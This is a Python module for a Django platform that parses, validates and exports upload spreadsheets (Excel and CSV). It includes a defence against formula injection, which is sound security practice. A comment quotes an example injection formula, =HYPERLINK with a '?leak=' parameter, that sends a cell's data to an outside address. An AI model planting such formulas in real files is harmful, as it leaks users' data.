"""Reading and writing the platform's upload spreadsheets (Excel .xlsx or CSV).

Every upload is validated row by row against a list of columns; errors carry the spreadsheet line number (the
header is line 1) and the column, so a user can fix the file. Callers apply a file only when it has no error,
which is how a rejected file changes nothing.
"""

import csv
import datetime
import io
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from decimal import Decimal, InvalidOperation
from typing import Any

from django.conf import settings
from django.utils import timezone, translation
from django.utils.translation import gettext as _
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.datavalidation import DataValidation

ALLOWED_EXTENSIONS = (".xlsx", ".csv")


class CellError(ValueError):
    """A cell's value is not acceptable; the message says why in the user's language."""


@dataclass(frozen=True)
class Validation:
    """What a template's cells accept, checked by the spreadsheet program as the user types (the upload checks
    again): a whole number or a decimal of at least ``minimum``, a date, or one of ``choices`` (a TextChoices class,
    offered as a drop-down of its labels in the language of the download)."""

    kind: str  # "whole", "decimal", "date" or "list"
    minimum: str = "0"
    choices: Any = None


@dataclass(frozen=True)
class Column:
    key: str
    header: Any  # lazily translated header shown in templates
    parse: Callable[[str], Any]
    required: bool = True
    unique: bool = False  # no two rows of one file may have the same value
    aliases: tuple[str, ...] = ()  # further header spellings accepted besides the key and the translated headers
    validation: Validation | None = None
    # Filled in by the platform's template (a hospital's agreements, a round's groups): a row whose other cells
    # are all empty is a template row the user did not use, and is skipped.
    prefilled: bool = False

    def accepts(self, header: str) -> bool:
        """A header matches in any of the platform's languages, so a Chinese template loads in an English session."""
        names = {self.key, *self.aliases}
        for language, _name in settings.LANGUAGES:
            with translation.override(language):
                names.add(str(self.header))
        return header.strip().lower() in {name.strip().lower() for name in names}


@dataclass
class RowError:
    line: int
    column: str
    message: str

    def as_dict(self) -> dict:
        return {"line": self.line, "column": self.column, "message": self.message}


@dataclass
class ParsedSheet:
    rows: list[tuple[int, dict]] = field(default_factory=list)
    errors: list[RowError] = field(default_factory=list)


# No value a spreadsheet or API row carries (prices, quantities) reaches 10^12; a larger one is refused as a cell
# error before any arithmetic, so no amount overflows its column and no rounding raises.
MAX_NUMBER = Decimal(10) ** 12


def parse_text(value: str) -> str:
    value = value.strip()
    if not value:
        raise CellError(_("This cell is empty."))
    return value


def parse_decimal(value: str) -> Decimal:
    try:
        number = Decimal(value.strip().replace(",", ""))
    except InvalidOperation:
        raise CellError(_("Not a number: “%(value)s”.") % {"value": value}) from None
    if not number.is_finite():
        raise CellError(_("Not a number: “%(value)s”.") % {"value": value})
    if abs(number) >= MAX_NUMBER:
        raise CellError(_("The number is too large: “%(value)s”.") % {"value": value[:40]})
    return number


def parse_positive_decimal(value: str) -> Decimal:
    number = parse_decimal(value)
    if number <= 0:
        raise CellError(_("Must be greater than zero."))
    return number


def parse_positive_int(value: str) -> int:
    number = parse_decimal(value)
    if number != number.to_integral_value() or number <= 0:
        raise CellError(_("Must be a whole number greater than zero."))
    return int(number)


def parse_choice(choices) -> Callable[[str], str]:
    """Accept a choice by its code or by its label in either language."""

    names: dict[str, list[str]] = {}

    def parse(value: str) -> str:
        if not names:
            # Its labels in every language of the platform, read once: a Chinese template loads in an English session.
            for code, label in choices.choices:
                names[code] = [str(code).lower()]
                for language, _name in settings.LANGUAGES:
                    with translation.override(language):
                        names[code].append(str(label).lower())
        wanted = value.strip().lower()
        for code, spellings in names.items():
            if wanted == spellings[0] or any(wanted == text or text.startswith(wanted + " (") for text in spellings):
                return code
        allowed = ", ".join(str(code) for code in choices.values)
        raise CellError(_("“%(value)s” is not one of: %(allowed)s.") % {"value": value, "allowed": allowed})

    return parse


def _cell_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, float):
        # openpyxl gives floats for numeric cells; repr keeps every digit Excel stored, with no binary noise.
        text = repr(value)
        return text[:-2] if text.endswith(".0") else text
    return str(value).strip()


def read_table(filename: str, content: bytes) -> list[list[str]]:
    """The sheet as text cells, first row being the header. Raises CellError when the file cannot be read."""
    name = filename.lower()
    if name.endswith(".csv"):
        try:
            text = content.decode("utf-8-sig")
        except UnicodeDecodeError:
            raise CellError(_("The CSV file is not UTF-8 encoded.")) from None
        if "\x00" in text:
            raise CellError(_("The file holds null characters: it is not a text (CSV) file."))
        try:
            return _bounded(csv.reader(io.StringIO(text)), lambda row: [cell.strip() for cell in row])
        except csv.Error:
            raise CellError(
                _("A cell is longer than %(max)s characters, or the CSV file is damaged.")
                % {"max": f"{csv.field_size_limit():,}"}
            ) from None
    if name.endswith(".xlsx"):
        try:
            workbook = load_workbook(io.BytesIO(content), read_only=True, data_only=True)
        except Exception:  # openpyxl raises many types for a damaged or foreign file
            raise CellError(_("The file is not a readable Excel (.xlsx) workbook.")) from None
        try:
            sheet = workbook.worksheets[0]
            return _bounded(sheet.iter_rows(values_only=True), lambda row: [_cell_text(value) for value in row])
        finally:
            workbook.close()
    raise CellError(_("Upload an Excel (.xlsx) or CSV file."))


def _bounded(rows, convert) -> list[list[str]]:
    """At most ``UPLOAD_MAX_ROWS`` data rows (plus the header): a larger file is refused whole, before any row is
    validated, so that a small file of many rows cannot tie up the server."""
    limit = settings.UPLOAD_MAX_ROWS + 1
    table = []
    for row in rows:
        if len(table) == limit:
            raise CellError(
                _("The file has more than %(max)s data rows: split it into several files.")
                % {"max": f"{settings.UPLOAD_MAX_ROWS:,}"}
            )
        table.append(convert(row))
    return table


def stored_errors(errors: Iterable[RowError]) -> list[dict]:
    """The errors kept with a rejected upload: the first ``UPLOAD_MAX_STORED_ERRORS`` in line order and, when there
    were more, one last entry that counts the rest."""
    ordered = sorted(errors, key=lambda error: (error.line, error.column))
    kept = [error.as_dict() for error in ordered[: settings.UPLOAD_MAX_STORED_ERRORS]]
    if len(ordered) > len(kept):
        rest = len(ordered) - len(kept)
        kept.append(
            RowError(
                0, "", _("…and %(count)s more errors (correct the first ones and upload again).") % {"count": rest}
            ).as_dict()
        )
    return kept


def parse_sheet(filename: str, content: bytes, columns: Iterable[Column]) -> ParsedSheet:
    """Validate every row; collect all errors instead of stopping at the first."""
    columns = list(columns)
    result = ParsedSheet()
    try:
        table = read_table(filename, content)
    except CellError as error:
        result.errors.append(RowError(0, "", str(error)))
        return result
    if not table:
        result.errors.append(RowError(1, "", _("The file is empty.")))
        return result
    header = table[0]
    positions: dict[str, int] = {}
    for column in columns:
        matches = [index for index, name in enumerate(header) if column.accepts(name)]
        if matches:
            positions[column.key] = matches[0]
        elif column.required:
            result.errors.append(RowError(1, str(column.header), _("The column is missing from the header row.")))
    if result.errors:
        return result
    first_seen: dict[tuple[str, str], int] = {}
    typed = [positions[c.key] for c in columns if not c.prefilled and c.key in positions]
    template = any(column.prefilled for column in columns)
    for line, cells in enumerate(table[1:], start=2):
        if not any(cell.strip() for cell in cells):
            continue
        if template and not any(index < len(cells) and cells[index].strip() for index in typed):
            continue  # a pre-filled template row left untouched
        values, row_ok = {}, True
        for column in columns:
            position = positions.get(column.key)
            raw = cells[position] if position is not None and position < len(cells) else ""
            if column.unique and raw.strip():
                seen_at = first_seen.setdefault((column.key, raw.strip()), line)
                if seen_at != line:
                    message = _("Same value as line %(line)s.") % {"line": seen_at}
                    result.errors.append(RowError(line, str(column.header), message))
                    row_ok = False
                    continue
            if not raw.strip():
                if column.required:
                    result.errors.append(RowError(line, str(column.header), _("This cell is empty.")))
                    row_ok = False
                else:
                    values[column.key] = None
                continue
            try:
                values[column.key] = column.parse(raw)
            except CellError as error:
                result.errors.append(RowError(line, str(column.header), str(error)))
                row_ok = False
        if row_ok:
            result.rows.append((line, values))
    if not result.rows and not result.errors:
        result.errors.append(RowError(2, "", _("The file has a header but no data rows.")))
    return result


# Text a spreadsheet program would read as a formula (OWASP "CSV injection"): a product or organisation name such as
# =HYPERLINK("http://…?leak="&B2) must stay text in every export.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """A cell value safe to export: text that starts like a formula gets a leading apostrophe (stays text)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _export_cell(sheet, value: Any):
    """Numbers stay numbers and dates real dates (Excel sorts and filters them); everything else is neutralised
    text."""
    if isinstance(value, bool):
        return neutralise(str(value))
    if isinstance(value, int | Decimal):
        return value
    if isinstance(value, datetime.datetime):
        cell = WriteOnlyCell(sheet, value=timezone.localtime(value).replace(tzinfo=None) if value.tzinfo else value)
        cell.number_format = "yyyy-mm-dd hh:mm"
        return cell
    if isinstance(value, datetime.date):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = "yyyy-mm-dd"
        return cell
    return neutralise("" if value is None else str(value))


def _data_validation(column: Column) -> DataValidation | None:
    """The spreadsheet program's check of a column's cells, with its message in the current language."""
    rule = column.validation
    common = {"allow_blank": True, "showErrorMessage": True, "errorTitle": str(column.header)}
    if rule.kind == "list":
        labels = [str(label).replace(",", "，").replace('"', "") for _code, label in rule.choices.choices]
        formula = '"' + ",".join(labels) + '"'
        if len(formula) > 255:  # the most a list written into the rule may hold; the upload still checks
            return None
        return DataValidation(type="list", formula1=formula, error=_("Choose a value from the list."), **common)
    if rule.kind == "date":
        return DataValidation(
            type="date",
            operator="greaterThan",
            formula1="36526",  # 2000-01-01
            error=_("Enter a date, e.g. 2026-03-01."),
            **common,
        )
    message = (
        _("Enter a whole number of at least %(minimum)s.")
        if rule.kind == "whole"
        else _("Enter a number of at least %(minimum)s.")
    )
    return DataValidation(
        type=rule.kind,
        operator="greaterThanOrEqual",
        formula1=rule.minimum,
        error=message % {"minimum": rule.minimum},
        **common,
    )


def build_workbook(columns: Iterable[Column], rows: Iterable[Iterable[Any]], title: str = "Data") -> bytes:
    """An .xlsx for templates and exports: a bold header row in the current language that stays in view (frozen),
    columns wide enough for their header, numbers as numbers and dates as dates; written as a stream, so a large
    export does not hold the sheet in memory."""
    columns = list(columns)
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(str(title)[:31])
    for index, column in enumerate(columns, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = max(14, len(str(column.header)) * 2 + 2)
    sheet.freeze_panes = "A2"
    for index, column in enumerate(columns, start=1):
        if column.validation is not None:
            validation = _data_validation(column)
            if validation is not None:
                validation.add(f"{get_column_letter(index)}2:{get_column_letter(index)}{settings.UPLOAD_MAX_ROWS + 1}")
                sheet.data_validations.append(validation)
    header = []
    for column in columns:
        cell = WriteOnlyCell(sheet, value=neutralise(str(column.header)))
        cell.font = Font(bold=True)
        header.append(cell)
    sheet.append(header)
    for row in rows:
        sheet.append([_export_cell(sheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
